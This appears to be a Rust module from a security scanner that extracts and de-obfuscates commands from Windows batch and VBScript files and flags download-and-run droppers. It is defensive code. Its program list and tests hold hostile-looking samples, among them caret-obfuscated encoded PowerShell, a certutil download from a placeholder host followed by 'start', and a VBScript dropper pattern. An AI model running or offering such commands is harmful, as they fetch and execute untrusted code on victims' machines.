//! Scripts of Windows that no parser here reads (batch, VBScript): the commands and texts in them that download,
//! start and decode. The script as a whole still counts as not read.

use crate::context::Cx;
use crate::language::Language;
use crate::rules::TextKind;

/// Languages, by their names in reports, that are looked through.
const LANGUAGES: &[&str] = &["batch", "vbscript", "windows script", "html application"];
/// Programs whose command lines are read.
const PROGRAMS: &[&str] = &[
    "powershell",
    "pwsh",
    "mshta",
    "certutil",
    "bitsadmin",
    "curl",
    "wget",
    "regsvr32",
    "rundll32",
    "schtasks",
    "reg",
    "vssadmin",
    "wmic",
    "bcdedit",
    "start",
    "msiexec",
    "wscript",
    "cscript",
    "netsh",
    "del",
    "call",
];
/// Maximum number of commands of a script that are read.
const MAX_COMMANDS: usize = 4096;

/// True for a language that is looked through.
pub(crate) fn is_looked_through(language: &str) -> bool {
    LANGUAGES.contains(&language)
}

/// Looks through a script.
pub(crate) fn read(cx: &mut Cx<'_>, language: &str, text: &str) {
    let is_batch = language == "batch";
    let found = if is_batch { commands(text) } else { texts(text) };
    let mut script = String::new();
    let mut from = 0;
    for line in text.split_inclusive('\n') {
        let plain = if is_batch { line.replace('^', "") } else { line.to_owned() };
        cx.text(TextKind::String, plain.trim_end(), (from, from + line.trim_end().len()), &[]);
        from += line.len();
    }
    for command in found {
        script.push_str(&command);
        script.push('\n');
    }
    if is_batch {
        cx.child(Language::PowerShell, &script, (0, text.len().min(1)), &["batch"]);
    } else {
        for line in script.lines().filter(|line| starts_program(line).is_some()) {
            cx.child(Language::PowerShell, line, (0, text.len().min(1)), &["vbscript"]);
        }
    }
    if !is_batch && drops(text) {
        cx.fact(Language::Text, "script.drops", (0, text.len().min(1)));
    }
}

/// Where the name of a program begins in a line, if it begins a word.
fn starts_program(line: &str) -> Option<usize> {
    let lower = line.to_ascii_lowercase();
    PROGRAMS
        .iter()
        .filter_map(|program| {
            lower.match_indices(program).map(|(at, _)| at).find(|at| {
                let before = lower[..*at].chars().next_back();
                let after = lower[at + program.len()..].chars().next();
                before.is_none_or(|c| !c.is_ascii_alphanumeric() && c != '_' && c != '-')
                    && after.is_none_or(|c| c.is_whitespace() || c == '.' || c == '"')
            })
        })
        .min()
}

/// Commands of a batch file, without carets and with the variables that it sets.
fn commands(text: &str) -> Vec<String> {
    let mut set: Vec<(String, String)> = Vec::new();
    let mut out = Vec::new();
    for line in text.lines().take(MAX_COMMANDS) {
        let mut plain = line.replace('^', "");
        for (name, value) in set.iter().rev() {
            if plain.len() < 1 << 16 {
                plain = plain.replace(&format!("%{name}%"), value);
            }
        }
        let trimmed = plain.trim().trim_start_matches('@');
        let lower = trimmed.to_ascii_lowercase();
        if let Some(rest) = lower.strip_prefix("set ") {
            let rest = trimmed[trimmed.len() - rest.len()..].trim().trim_matches('"');
            if let Some((name, value)) =
                rest.split_once('=').filter(|(name, _)| !name.is_empty() && set.len() < 512)
            {
                set.push((name.trim().to_owned(), value.trim_matches('"').to_owned()));
            }
            continue;
        }
        for piece in pieces(trimmed) {
            // A path alone starts the file.
            let lower = piece.to_ascii_lowercase();
            let is_path = [".exe", ".bat", ".cmd", ".vbs", ".ps1", ".dll"].iter().any(|ending| {
                lower.trim_matches('"').ends_with(ending) && !lower.contains(char::is_whitespace)
            });
            if let Some(at) = starts_program(piece) {
                out.push(piece[at..].to_owned());
            } else if is_path {
                out.push(format!("& '{}'", piece.trim_matches('"').replace('\'', "")));
            }
        }
    }
    out
}

/// Commands of a line, cut at `&`, `|` and redirections outside of quotes.
fn pieces(line: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let (mut quoted, mut from) = (false, 0);
    for (at, c) in line.char_indices() {
        match c {
            '"' => quoted = !quoted,
            '&' | '|' | '>' | '<' if !quoted => {
                out.push(line[from..at].trim());
                from = at + 1;
            }
            _ => {}
        }
    }
    out.push(line[from..].trim());
    out.retain(|piece| !piece.is_empty());
    out
}

/// Texts of a VBScript, those of one line that are joined as one.
fn texts(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for line in text.lines().take(MAX_COMMANDS) {
        let mut joined = String::new();
        let mut rest = line;
        while let Some((_, after)) = rest.split_once('"') {
            let mut inner = String::new();
            let mut tail = after;
            loop {
                let Some((piece, behind)) = tail.split_once('"') else {
                    inner.push_str(tail);
                    tail = "";
                    break;
                };
                inner.push_str(piece);
                match behind.strip_prefix('"') {
                    Some(more) => {
                        inner.push('"');
                        tail = more;
                    }
                    None => {
                        tail = behind;
                        break;
                    }
                }
            }
            joined.push_str(&inner);
            rest = tail;
        }
        if !joined.is_empty() {
            out.push(joined);
        }
    }
    out
}

/// True when a script receives something, saves it and starts something.
fn drops(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
    has(&["xmlhttp", "winhttp"])
        && has(&["savetofile", "createtextfile"])
        && has(&[".run", "shellexecute", ".exec"])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn batch_commands_are_found() {
        for (text, found) in [
            ("@echo off\npo^wershell -enc AAAA\n", &["powershell -enc AAAA"][..]),
            ("set A=power\nset B=shell\n%A%%B% -c \"iwr x & y\"", &["powershell -c \"iwr x & y\""]),
            (
                "certutil -urlcache -f http://h/a a.exe & start a.exe",
                &["certutil -urlcache -f http://h/a a.exe", "start a.exe"],
            ),
            ("a.exe", &["& 'a.exe'"]),
            ("echo hello\nrem powershells\ndir", &[]),
        ] {
            assert_eq!(commands(text), found, "{text}");
        }
    }

    #[test]
    fn script_texts_are_joined() {
        assert_eq!(texts("s.Run \"power\" & \"shell -c \"\"x\"\"\", 0"), ["powershell -c \"x\""]);
        assert!(drops("Set x = CreateObject(\"MSXML2.XMLHTTP\")\ns.SaveToFile p\nw.Run p"));
        assert!(!drops("Set x = CreateObject(\"MSXML2.XMLHTTP\")"));
    }
}
